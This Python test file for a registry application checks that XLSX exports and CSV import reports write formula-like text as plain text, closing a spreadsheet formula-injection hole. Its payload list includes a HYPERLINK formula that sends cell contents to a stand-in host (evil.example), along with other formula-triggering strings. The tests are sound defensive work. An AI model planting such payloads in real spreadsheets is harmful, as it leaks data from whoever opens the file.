"""Formula injection (issue 15, finding 1): text that a spreadsheet reads as a formula is written as
text in every register export and import report. XLSX: read back with openpyxl, no cell is a formula
(data type 'f') and the text comes back as typed. CSV: the cell starts with an apostrophe."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from gridgov.core.uscc import make_uscc
from gridgov.registry import services
from gridgov.registry.models import House, ImportJob, Organisation, Person
from tests.registry.conftest import client_for

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


@pytest.fixture
def evil_register(users, houses, person_data):
    actor = users["street_a"]
    for i, text in enumerate(EVIL):
        h = services.house_register(actor=actor, data={"house_code": f"EVIL-{i}", "address": f"测试路{i}号",
                                                       "grid_code": houses["a1_1"].grid_code})
        House.objects.filter(pk=h.pk).update(address=text)  # as a row stored before any cleaning
        p = services.person_register(actor=actor, data=person_data(i + 1), house_id=houses["a1_1"].pk).person
        Person.objects.filter(pk=p.pk).update(name=text)  # a name as any older import may have stored it
        o = services.organisation_register(actor=actor, data={"uscc": make_uscc(f"91310101MA1FL00{i:02d}"),
                                                              "name": f"公司{i}", "category": "E01"},
                                           house_id=houses["a1_1"].pk)
        Organisation.objects.filter(pk=o.pk).update(name=text, address=text)
    assert House.objects.filter(address__in=EVIL).count() == len(EVIL)


@pytest.mark.parametrize("url", ["/api/v1/registry/persons/export.xlsx", "/api/v1/registry/houses/export.xlsx",
                                 "/api/v1/registry/organisations/export.xlsx"])
def test_xlsx_exports_write_formula_text_as_text(url, evil_register, users):
    r = client_for(users["district"]).get(url)
    assert r.status_code == 200
    cells = _cells(r.content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # XML turns a carriage return into a line feed on reading: compare with that done
    evil = [t.replace("\r", "\n") for t in EVIL]
    values = [c.value for c in cells]
    for text in evil:
        assert text in values, (url, text)
    assert all(c.quotePrefix for c in cells if c.value in evil)


def test_import_report_csv_prefixes_formula_text(users):
    job = ImportJob.objects.create(kind="houses", filename="h.csv", actor=users["street_a"], state="done",
                                   report=[{"row": 2, "field": text, "code": "invalid", "message": text}
                                           for text in EVIL])
    r = client_for(users["street_a"]).get(f"/registry/import/{job.pk}/report.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["行号", "字段", "错误代码", "原因"]  # (zh-hans, the default language)
    assert [(row[1], row[3]) for row in rows[1:]] == [("'" + t, "'" + t) for t in EVIL]
